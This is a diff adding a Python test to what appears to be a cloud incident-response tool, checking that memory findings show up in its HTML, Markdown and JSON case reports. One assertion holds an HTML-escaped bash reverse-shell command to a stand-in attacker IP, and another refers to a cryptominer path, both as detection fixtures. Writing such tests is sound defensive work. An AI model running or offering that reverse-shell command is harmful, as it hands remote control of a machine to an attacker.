@@ -185,3 +185,23 @@ def test_without_memory_the_runner_writes_empty_memory_findings(tmp_path: Path) 
     assert written["findings"] == [] and written["memory"]["status"] == "not analysed"
     assert result.memory_findings == []
     assert load_examination(tmp_path / "analysis").memory_findings == []
+
+
+def test_the_report_shows_memory_findings_in_html_markdown_and_json(found: list[MemoryFinding]) -> None:
+    from examiner.report import CaseReportInput, render_report
+
+    case = CaseReportInput(
+        case_id="case-1",
+        instance_id="i-0abc",
+        account="111111111111",
+        region="eu-west-1",
+        trigger="guardduty",
+        action="contain",
+        memory_findings=found,
+    )
+    rendered = render_report(case)
+    html, markdown = rendered["report.html"].decode(), rendered["report.md"].decode()
+    assert "<h3>Memory findings</h3>" in html and "### Memory findings" in markdown
+    assert "bash -i &gt;&amp; /dev/tcp/203.0.113.66/4444 0&gt;&amp;1" in html
+    assert f"/vol-0abc/p1{MINER}" in html
+    assert json.loads(rendered["report.json"])["memory_findings"] == [f.to_dict() for f in found]
